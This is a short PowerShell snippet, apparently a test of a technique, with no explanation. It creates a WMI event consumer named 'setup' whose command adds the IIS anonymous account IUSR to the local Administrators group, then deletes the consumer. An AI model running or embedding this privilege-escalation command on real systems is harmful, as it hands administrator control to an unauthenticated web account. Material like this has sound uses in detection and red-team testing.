New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property @{ Name = 'setup'; CommandLineTemplate = 'net localgroup Administrators IUSR /add' } | Out-Null
Get-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Filter "Name='setup'" | Remove-CimInstance
